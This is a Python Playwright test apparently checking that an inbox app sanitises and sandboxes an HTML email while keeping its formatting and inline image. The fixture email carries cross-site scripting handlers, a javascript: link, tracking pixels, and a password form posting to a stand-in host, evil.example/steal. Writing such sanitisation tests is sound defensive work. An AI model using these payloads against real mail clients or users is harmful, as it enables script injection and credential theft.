"""An HTML mail in the agent's thread, in headless Chromium: formatted, and nothing of it runs.

The mail goes the whole way: appended to a real Dovecot mailbox, read by the IMAP poller,
parsed and sanitised, stored, and shown in its sandboxed frame. Its hostile parts (script,
handlers, remote images, a form, a frame) never act, and its inline picture loads.
"""

from __future__ import annotations

import base64
import re
from pathlib import Path
from typing import Any

from playwright.async_api import Browser, Request, expect

from tests.browser.test_agent_ui import open_inbox
from tests.helpers import Stack
from tests.mail_services import DovecotServer, SmtpRecorder, imap_append
from tests.test_email_flow import _email_inbox

PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000002000000020802000000fdd49a73"
    "0000001649444154789c63f8cfc0f09f81e13f0303c37f06000e2a03fd8e4b2b7a"
    "0000000049454e44ae426082")).decode()

MAIL = f"""From: Nancy Davolio <nancy@northwind.example>
To: help@acme.test
Subject: Damaged items in delivery 5521
Message-ID: <html-browser-1@northwind.example>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8

<html><head><script>window.top.__pwned = 'script'</script>
<style>body {{ background: url(https://tracker.example/bg.png) }}</style></head>
<body onload="window.top.__pwned = 'onload'">
<p style="color:#c00000;position:fixed;top:0">Three items arrived <b>broken</b>:</p>
<table border="1" cellpadding="4"><tr><th>Item</th><th>Qty</th></tr>
<tr><td>Glass vase</td><td>3</td></tr></table>
<p><img src="cid:photo@northwind.example" alt="photo of the vase"></p>
<img src="https://tracker.example/open.gif" width="1" height="1">
<img src="x" onerror="window.top.__pwned = 'onerror'">
<a href="javascript:window.top.__pwned='link'">Click me</a>
<a href="https://help.example/returns">Returns policy</a>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="window.top.__pwned = 'svg'"><script>window.top.__pwned = 'svg-script'</script></svg>
</body></html>
--rel
Content-Type: image/png
Content-ID: <photo@northwind.example>
Content-Disposition: inline; filename="vase.png"
Content-Transfer-Encoding: base64

{PNG}
--rel--
""".replace("\n", "\r\n").encode()


async def test_an_html_mail_shows_formatted_and_nothing_in_it_runs(
    mail_stack: tuple[Stack, DovecotServer, SmtpRecorder], browser: Browser, screenshots: Path,
) -> None:
    stack, dovecot, smtp = mail_stack
    admin = await stack.login("admin")
    await _email_inbox(stack, admin, dovecot, smtp)
    alice = await open_inbox(browser, stack, "alice")
    page = alice.page
    outside: list[str] = []

    def on_request(request: Request) -> None:
        if not request.url.startswith(stack.base):
            outside.append(request.url)

    alice.context.on("request", on_request)
    dialogs: list[str] = []

    async def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        await dialog.dismiss()

    page.on("dialog", on_dialog)
    await imap_append(dovecot, "support", MAIL)
    row = alice.row("Three items arrived broken")
    await expect(row).to_be_visible(timeout=20_000)
    await row.click()

    frame_element = page.locator("#message-list .msg.in iframe.mail-html")
    await expect(frame_element).to_have_attribute(
        "sandbox", "allow-same-origin allow-popups allow-popups-to-escape-sandbox")
    mail = page.frame_locator("#message-list .msg.in iframe.mail-html")
    broken = mail.locator("p", has_text="Three items arrived")
    await expect(broken.locator("b")).to_have_text("broken")
    await expect(broken).to_have_css("color", "rgb(192, 0, 0)")  # its own style applies
    await expect(broken).not_to_have_css("position", "fixed")  # but cannot leave its box
    await expect(mail.locator("table td").first).to_have_text("Glass vase")
    photo = mail.locator("img[alt='photo of the vase']")
    await expect(photo).to_have_attribute("src", re.compile(r"^/api/v1/attachments/[0-9a-f]{32}$"))
    await expect(photo).to_be_visible()
    assert await photo.evaluate("img => img.naturalWidth") == 2  # the stored picture loaded
    link = mail.locator("a", has_text="Returns policy")
    await expect(link).to_have_attribute("target", "_blank")
    await expect(link).to_have_attribute("rel", "noopener noreferrer")
    assert await mail.locator("a", has_text="Click me").get_attribute("href") is None
    assert await mail.locator("body :is(script, form, input, iframe, svg, style)").count() == 0
    height = await frame_element.evaluate("f => f.getBoundingClientRect().height")
    assert height > 120  # sized to the mail, not the frame's default

    # The frame's document runs no script even when asked directly.
    handle = await frame_element.element_handle()
    assert handle is not None
    content = await handle.content_frame()
    assert content is not None
    await content.evaluate("() => 1")  # Playwright's own evaluation is not page script
    scripts_allowed = await page.evaluate("""() => {
        const f = document.querySelector('#message-list iframe.mail-html');
        const s = f.contentDocument.createElement('script');
        s.textContent = "window.top.__pwned = 'injected'";
        f.contentDocument.body.append(s);
        return window.__pwned === undefined;
    }""")
    assert scripts_allowed  # a script element added to the frame did not run
    assert alice.errors and "/api/v1/messages/" in alice.errors[0]
    assert await page.evaluate("window.__pwned") is None
    assert dialogs == [] and outside == []
    await page.screenshot(path=str(screenshots / "email-html-thread.png"))
    # The one error of the page is Chromium refusing the script added above.
    [refused] = alice.errors
    assert refused.startswith("Blocked script execution in ") and "allow-scripts" in refused
